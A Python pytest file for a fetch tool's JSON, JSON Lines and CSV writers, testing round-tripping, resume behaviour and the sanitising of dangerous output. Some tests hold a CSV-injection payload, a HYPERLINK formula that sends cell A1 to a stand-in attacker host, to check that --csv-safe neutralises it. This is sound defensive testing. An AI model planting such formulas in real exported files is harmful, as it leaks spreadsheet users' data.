"""Each output format parses back with the standard library, streamed and closed validly."""

from __future__ import annotations

import csv
import io
import json
import os
import threading
from pathlib import Path

import pytest

from fetchmany.output.writers import (
    CsvWriter,
    Output,
    OutputFormat,
    csv_cell,
    csv_cells,
    fields_of_header,
    format_for_path,
    looks_neutralised,
    make_writer,
    neutralise_formula,
)
from fetchmany.records import ErrorKind, FetchError, Record


def sample_records() -> list[Record]:
    return [
        Record(0, "1", "http://h.test/1", ok=True, status=200, body={"title": 'a,b "q"\nx'}),
        Record(1, "2", None, error=FetchError(ErrorKind.INVALID_URL, "bad")),
        Record(
            2,
            "3",
            "http://h.test/3",
            status=404,
            error=FetchError(ErrorKind.HTTP, "404 Not Found"),
            body="not found",
        ),
    ]


def write_to(tmp_path: Path, fmt: OutputFormat, batches: list[list[Record]]) -> bytes:
    path = tmp_path / f"out.{fmt.value}"
    writer = make_writer(fmt, Output(str(path)))
    for batch in batches:
        writer.write(batch)
    writer.close()
    return path.read_bytes()


def test_jsonl_one_object_per_line(tmp_path: Path) -> None:
    data = write_to(tmp_path, OutputFormat.JSONL, [sample_records()[:1], sample_records()[1:]])
    rows = [json.loads(line) for line in data.splitlines()]
    assert [r["index"] for r in rows] == [0, 1, 2]
    assert rows[0]["body"]["title"] == 'a,b "q"\nx'
    assert rows[1]["error"] == {"kind": "invalid_url", "message": "bad"}


@pytest.mark.parametrize("batches", [[], [[]], [[r] for r in sample_records()]])
def test_json_array_is_valid_for_any_number_of_records(
    tmp_path: Path, batches: list[list[Record]]
) -> None:
    data = write_to(tmp_path, OutputFormat.JSON, batches)
    assert [r["index"] for r in json.loads(data)] == [b[0].index for b in batches if b]


def test_csv_header_nested_json_and_error_kind_and_message(tmp_path: Path) -> None:
    data = write_to(tmp_path, OutputFormat.CSV, [sample_records()])
    rows = list(csv.DictReader(io.StringIO(data.decode(), newline="")))
    assert len(rows) == 3
    assert list(rows[0])[-3:] == ["error", "error_message", "body"]  # error is two columns
    assert json.loads(rows[0]["body"]) == {"title": 'a,b "q"\nx'}
    assert rows[0]["ok"] == "true"
    assert (rows[0]["error"], rows[0]["error_message"]) == ("", "")
    assert (rows[1]["error"], rows[1]["error_message"]) == ("invalid_url", "bad")
    assert rows[1]["status"] == ""
    assert (rows[2]["error"], rows[2]["error_message"]) == ("http", "404 Not Found")
    assert rows[2]["body"] == "not found"


def test_csv_safe_neutralises_an_error_message_too(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    writer = make_writer(OutputFormat.CSV, Output(str(path)), ("index", "error"), csv_safe=True)
    writer.write([Record(0, "x", None, error=FetchError(ErrorKind.PROTOCOL, "=HYPERLINK()"))])
    writer.close()
    assert path.read_text().splitlines() == [
        "index,error,error_message",
        "0,protocol,'=HYPERLINK()",
    ]


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What OWASP's CSV injection page says a cell must not start with, as docs/reference.md
lists them for --csv-safe: spelled out here, not read from the writer, so that one
dropped from the writer fails."""


def csv_rows_of(tmp_path: Path, records: list[Record], fields: tuple[str, ...]) -> list[list[str]]:
    path = tmp_path / "out.csv"
    writer = make_writer(OutputFormat.CSV, Output(str(path)), fields, csv_safe=True)
    writer.write(records)
    writer.close()
    return list(csv.reader(io.StringIO(path.read_bytes().decode(), newline="")))[1:]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_csv_safe_prefixes_every_formula_start_in_every_text_cell(
    tmp_path: Path, start: str
) -> None:
    """A tab before =HYPERLINK(...) reached a spreadsheet as it was: each start OWASP
    lists gets the ' in input, body, a pick and an error message alike."""
    cell = f'{start}HYPERLINK("http://evil.test/?x="&A1)'
    record = Record(0, cell, None, body=cell, picks={"v": cell})
    record.error = FetchError(ErrorKind.HTTP, cell)
    (row,) = csv_rows_of(tmp_path, [record], ("input", "body", "v", "error"))
    assert row == ["'" + cell, "'" + cell, "'" + cell, "http", "'" + cell]
    assert neutralise_formula(cell) == "'" + cell
    assert looks_neutralised("'" + cell)  # what --merge and --resume read back as one


@pytest.mark.parametrize(
    "cell", ["", " =1", "a=b", "'", "'x", "HYPERLINK()", "\n=1", "http://h.test/?a=-1"]
)
def test_csv_safe_leaves_other_text_as_it_is(tmp_path: Path, cell: str) -> None:
    (row,) = csv_rows_of(tmp_path, [Record(0, cell, None, body=cell)], ("input", "body"))
    assert row == [cell, cell]
    assert not looks_neutralised(cell)


def test_csv_safe_leaves_numbers_as_numbers(tmp_path: Path) -> None:
    """-5 as a number is no formula: a spreadsheet shows it as the number it is."""
    record = Record(0, "x", None, status=200, picks={"n": -5, "f": -0.5})
    (row,) = csv_rows_of(tmp_path, [record], ("status", "n", "f"))
    assert row == ["200", "-5", "-0.5"]


def test_fields_select_and_order_columns(tmp_path: Path) -> None:
    path = tmp_path / "f.csv"
    writer = make_writer(OutputFormat.CSV, Output(str(path)), ("status", "index"))
    writer.write(sample_records())
    writer.close()
    assert path.read_text().splitlines()[:2] == ["status,index", "200,0"]


def test_file_is_replaced_only_when_the_run_closes_it(tmp_path: Path) -> None:
    path = tmp_path / "out.jsonl"
    path.write_text("previous complete result\n")
    writer = make_writer(OutputFormat.JSONL, Output(str(path)))
    writer.write(sample_records())
    assert path.read_text() == "previous complete result\n"  # a crash now loses nothing
    writer.close()
    assert len(path.read_text().splitlines()) == 3
    assert [p.name for p in tmp_path.iterdir()] == ["out.jsonl"]


@pytest.mark.parametrize(
    ("name", "fmt"),
    [
        ("a.jsonl", OutputFormat.JSONL),
        ("a.NDJSON", OutputFormat.JSONL),
        ("a.json", OutputFormat.JSON),
        ("a.csv", OutputFormat.CSV),
        ("a.txt", None),
        (None, None),
    ],
)
def test_format_from_extension(name: str | None, fmt: OutputFormat | None) -> None:
    assert format_for_path(name) is fmt


def test_a_path_that_is_not_a_regular_file_is_written_directly(tmp_path: Path) -> None:
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()))
    reader.start()
    writer = make_writer(OutputFormat.JSONL, Output(str(fifo)))
    writer.write(sample_records())
    writer.close()
    reader.join(10)
    assert len(received[0].splitlines()) == 3
    assert sorted(p.name for p in tmp_path.iterdir()) == ["pipe"]  # no temporary sibling


def test_a_symlink_is_followed_not_replaced(tmp_path: Path) -> None:
    target = tmp_path / "real.jsonl"
    target.write_text("old\n")
    link = tmp_path / "link.jsonl"
    link.symlink_to(target)
    writer = make_writer(OutputFormat.JSONL, Output(str(link)))
    writer.write(sample_records())
    writer.close()
    assert link.is_symlink()
    assert len(target.read_text().splitlines()) == 3


def test_dev_paths_are_written_in_place() -> None:
    output = Output("/dev/null")
    writer = make_writer(OutputFormat.JSON, output)
    writer.write(sample_records())
    writer.close()
    assert os.path.exists("/dev/null")
    assert not os.path.isfile("/dev/null")


def test_a_resumed_json_array_left_by_a_failed_run_stays_one_valid_array(
    tmp_path: Path,
) -> None:
    """A resumed run that fails keeps its whole batches and closes the array again, so the
    file still loads and can be resumed once more."""
    from fetchmany.output.resume import scan
    from fetchmany.records import FIELDS

    path = tmp_path / "out.json"
    first = make_writer(OutputFormat.JSON, Output(str(path)))
    first.write(sample_records()[:1])
    first.close()
    output = Output(str(path), resume=True)
    output.start_at(scan(str(path), OutputFormat.JSON, FIELDS, None).offset)
    resumed = make_writer(OutputFormat.JSON, output)
    resumed.write(sample_records()[1:])
    resumed.abandon()
    assert [record["index"] for record in json.loads(path.read_bytes())] == [0, 1, 2]


def test_a_resumed_json_array_with_nothing_left_to_fetch_is_closed_as_it_was(
    tmp_path: Path,
) -> None:
    """A --resume of a run that had every record but its closing bracket (interrupted
    as it closed) writes no record: it closes the array after them, not with an empty
    array of its own."""
    from fetchmany.output.resume import scan
    from fetchmany.records import FIELDS

    path = tmp_path / "out.json"
    first = make_writer(OutputFormat.JSON, Output(str(path)))
    first.write(sample_records())
    first.close()
    path.write_bytes(path.read_bytes().removesuffix(b"\n]\n"))  # the bracket not written
    output = Output(str(path), resume=True)
    output.start_at(scan(str(path), OutputFormat.JSON, FIELDS, None).offset)
    resumed = make_writer(OutputFormat.JSON, output)
    resumed.close()
    assert [record["index"] for record in json.loads(path.read_bytes())] == [0, 1, 2]


def test_a_csv_header_whose_first_field_is_error_reads_back_without_its_message() -> None:
    """``--fields error,url`` writes error, error_message, url: the message column is the
    writer's, wherever the error column stands."""
    assert fields_of_header(["error", "error_message", "url"]) == ("error", "url")
    assert fields_of_header(["url", "error", "error_message"]) == ("url", "error")
    assert fields_of_header(["error_message", "url"]) == ("error_message", "url")


def test_csv_shown_on_a_terminal_escapes_control_characters() -> None:
    """CSV written to a terminal shows an ESC from outside as \\x1b (it would otherwise
    recolour or rewrite the screen); tabs and line breaks in a quoted cell stay."""
    import pty

    main, side = pty.openpty()
    try:
        writer = make_writer(OutputFormat.CSV, Output(os.ttyname(side)))
        writer.write([Record(0, "\x1b[31mred\x1b[0m", None, body="a\tb")])
        writer.close()
        shown = b""
        while b"red" not in shown or not shown.endswith(b"\n"):
            shown += os.read(main, 65536)
    finally:
        os.close(main)
        os.close(side)
    assert b"\x1b" not in shown
    assert b"\\x1b[31mred\\x1b[0m" in shown
    assert b"a\tb" in shown


def test_what_orjson_refuses_is_written_compact_and_as_utf8_by_the_fallback() -> None:
    """Integers beyond 64 bits go through the stdlib: the same compact UTF-8 line as
    orjson writes; a lone surrogate, which UTF-8 cannot hold, as a JSON escape."""
    from fetchmany.output.writers import encode_json

    big = {"n": 2**70, "s": "é", "l": [1, 2]}
    assert encode_json(big) == '{"n":1180591620717411303424,"s":"é","l":[1,2]}'.encode()
    assert encode_json(big, line=True) == encode_json(big) + b"\n"
    assert encode_json({"s": "\ud800", "t": "é"}) == b'{"s":"\\ud800","t":"\\u00e9"}'
    assert json.loads(encode_json({"s": "\ud800"}, line=True)) == {"s": "\ud800"}


def test_a_csv_writer_writes_formulas_as_they_are_unless_asked_and_lone_surrogates_escaped(
    tmp_path: Path,
) -> None:
    """The library's CsvWriter neutralises nothing unless ``csv_safe`` (the CLI's
    --csv-safe) asks; and a JSON body's lone surrogate ("\\ud800", which no UTF-8 can
    carry) is written as its escape, never a crash halfway through a batch."""
    path = tmp_path / "out.csv"
    writer = CsvWriter(Output(str(path)), ("input", "body", "v"))
    # A --pick of a JSON string is such a string itself, as parsed.
    writer.write([Record(0, "=1+1", None, body={"a": "\ud800x"}, picks={"v": "\ud800y"})])
    writer.close()
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode(), newline="")))
    assert rows == [["input", "body", "v"], ["=1+1", '{"a":"\\ud800x"}', "\\ud800y"]]


def test_a_json_lines_record_orjson_refuses_is_still_a_line_of_its_own(tmp_path: Path) -> None:
    """A body with an integer beyond 64 bits and a lone surrogate takes the stdlib's way:
    still one whole line, ended, between its neighbours."""
    path = tmp_path / "out.jsonl"
    writer = make_writer(OutputFormat.JSONL, Output(str(path)))
    body = {"n": 2**70, "s": "\ud800"}
    writer.write(
        [
            Record(0, "1", "http://h.test/1", ok=True, status=200, body=body),
            Record(1, "2", "http://h.test/2", ok=True, status=200, body={"n": 1}),
        ]
    )
    writer.close()
    lines = path.read_bytes().split(b"\n")
    assert lines[2:] == [b""]  # two lines, each ended
    assert [json.loads(line)["body"] for line in lines[:2]] == [body, {"n": 1}]


def test_a_header_with_no_message_column_after_error_reads_back_as_written() -> None:
    """Only ``error_message`` right after ``error`` is the writer's own column."""
    assert fields_of_header(["url", "error", "status"]) == ("url", "error", "status")
    assert fields_of_header(["error", "status", "error_message"]) == (
        "error",
        "status",
        "error_message",
    )


def test_each_value_becomes_the_csv_cell_a_json_reader_would_expect() -> None:
    assert [csv_cell(v) for v in (None, True, False, 3, 2**70, 1.5, 1e-07, "x")] == [
        "",
        "true",
        "false",
        "3",
        "1180591620717411303424",
        "1.5",
        "1e-07",
        "x",
    ]
    assert csv_cell({"a": [1, "é"]}) == '{"a":[1,"é"]}'
    assert csv_cells("error", {"kind": "http", "message": "HTTP 404"}) == ["http", "HTTP 404"]
    assert csv_cells("error", None) == ["", ""]
    assert csv_cells("error", "edited by hand") == ["edited by hand", ""]  # a merged part's


def test_a_resumed_csv_gets_its_rows_and_no_second_header(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    path.write_bytes(b"index,url\r\n0,http://h.test/1\r\n")
    output = Output(str(path), resume=True)
    output.start_at(path.stat().st_size)
    writer = make_writer(OutputFormat.CSV, output, ("index", "url"))
    writer.write([Record(1, "2", "http://h.test/2")])
    writer.close()
    assert path.read_bytes() == b"index,url\r\n0,http://h.test/1\r\n1,http://h.test/2\r\n"


def test_a_writer_counts_the_records_it_wrote_across_batches(tmp_path: Path) -> None:
    """The count an interrupted run reports ("out.jsonl holds 5 records")."""
    writer = make_writer(OutputFormat.JSONL, Output(str(tmp_path / "out.jsonl")))
    writer.write([Record(n, str(n), None) for n in range(2)])
    writer.write([Record(n, str(n), None) for n in range(2, 5)])
    assert writer.written == 5
    writer.close()
